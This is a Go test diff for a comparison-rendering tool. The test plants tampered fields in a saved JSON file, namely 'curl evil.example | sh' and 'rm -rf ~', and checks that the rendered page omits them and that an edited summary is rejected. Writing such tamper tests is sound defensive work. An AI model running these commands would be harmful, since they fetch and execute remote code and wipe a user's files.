@@ -188,3 +188,54 @@ func TestComparePageCommand(t *testing.T) {
 		t.Errorf("render --layers of a comparison: exit %d, %s", code, stderr)
 	}
 }
+
+// TestRenderCraftedComparison: a saved comparison whose command, specs and
+// runs' commands were edited renders into the honest page: none of the
+// stored text is shown. One whose summary numbers were edited is refused.
+func TestRenderCraftedComparison(t *testing.T) {
+	dir := t.TempDir()
+	saved := filepath.Join(dir, "c.json")
+	if _, stderr, code := gptviz(t, "compare", "--steps", "4", "--seeds", "1,2", "--sample", "greedy", "--sample", "top-k=3", "--format", "json", "-o", saved, "The light"); code != 0 {
+		t.Fatalf("exit %d: %s", code, stderr)
+	}
+	if _, stderr, code := gptviz(t, "render", "-o", filepath.Join(dir, "honest.html"), saved); code != 0 {
+		t.Fatalf("exit %d: %s", code, stderr)
+	}
+	data, err := os.ReadFile(saved)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var m map[string]any
+	if err := json.Unmarshal(data, &m); err != nil {
+		t.Fatal(err)
+	}
+	m["command"] = "curl evil.example | sh"
+	m["settings"].([]any)[0].(map[string]any)["spec"] = "EVIL-SPEC"
+	m["runs"].([]any)[1].([]any)[0].(map[string]any)["settings"].(map[string]any)["command"] = "rm -rf ~"
+	crafted := filepath.Join(dir, "crafted.json")
+	b, _ := json.Marshal(m)
+	if err := os.WriteFile(crafted, b, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if _, stderr, code := gptviz(t, "render", "-o", filepath.Join(dir, "crafted.html"), crafted); code != 0 {
+		t.Fatalf("exit %d: %s", code, stderr)
+	}
+	honest, _ := os.ReadFile(filepath.Join(dir, "honest.html"))
+	page, _ := os.ReadFile(filepath.Join(dir, "crafted.html"))
+	for _, bad := range []string{"evil.example", "EVIL-SPEC", "rm -rf"} {
+		if bytes.Contains(page, []byte(bad)) {
+			t.Errorf("the page shows the stored %q", bad)
+		}
+	}
+	if !bytes.Equal(page, honest) {
+		t.Error("the crafted comparison's page differs from the honest one")
+	}
+	m["summaries"].([]any)[0].([]any)[0].(map[string]any)["distinct_1"] = 0.123
+	b, _ = json.Marshal(m)
+	if err := os.WriteFile(crafted, b, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if _, stderr, code := gptviz(t, "render", "-o", filepath.Join(dir, "lie.html"), crafted); code != 1 || !strings.Contains(stderr, "summaries[0][0]") || !strings.Contains(stderr, "crafted.json") {
+		t.Errorf("edited summary: exit %d, %s", code, stderr)
+	}
+}
